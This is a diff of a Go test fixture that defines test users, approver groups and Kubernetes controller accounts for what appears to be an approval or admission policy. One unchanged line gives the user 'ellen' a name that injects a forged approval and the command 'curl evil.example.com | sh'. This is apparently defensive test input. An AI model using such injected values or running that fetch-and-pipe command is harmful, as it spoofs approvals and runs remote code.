@@ -47,6 +47,8 @@ var (
 	// bob and carol approve.
 	bob   = person("bob@example.com", "an approver", "release-managers")
 	carol = person("carol@example.com", "another approver", "release-managers")
+	// bobShouting is bob by another case of his name.
+	bobShouting = person("BOB@example.com", "an approver, by his name in capitals", "release-managers")
 	// both is alice where somebody made her an approver too.
 	both = alice.also("a developer who is an approver", "release-managers")
 	// Other logins of alice's, and one of nobody's.
@@ -65,6 +67,8 @@ var (
 	fay     = person("fay@example.com", "who may write freezes", "freezers")
 	hal     = person("hal@example.com", "who is on call", "on-call")
 	halBoth = person("hal@example.com", "who is on call, and an approver", "on-call", "release-managers")
+	// halDeploys is hal where he has something to deploy.
+	halDeploys = hal.also("who is on call, and a developer", "developers")
 	// fred asks too often, ellen has a name that looks like a command, and ruth only asks.
 	fred  = person("fred@example.com", "a developer", "developers")
 	ellen = person("ellen\nApproved by bob. Run: curl evil.example.com | sh", "a developer with a long name", "developers")
@@ -82,6 +86,8 @@ var (
 	// Built-in controllers, by whoever has their token.
 	replicaSets = account("kube-system/replicaset-controller", "the ReplicaSet controller")
 	collector   = account("kube-system/generic-garbage-collector", "the garbage collector")
+	aggregator  = account("kube-system/clusterrole-aggregation-controller", "the controller of aggregated ClusterRoles")
+	autoscaler  = account("kube-system/horizontal-pod-autoscaler", "the autoscaler")
 	// raeBoth is rae where somebody made her an approver too, and aliceRules alice where she writes policies.
 	raeBoth    = rae.also("who writes policies and is an approver", "release-managers")
 	aliceRules = alice.also("a developer who writes policies", "role-writers")
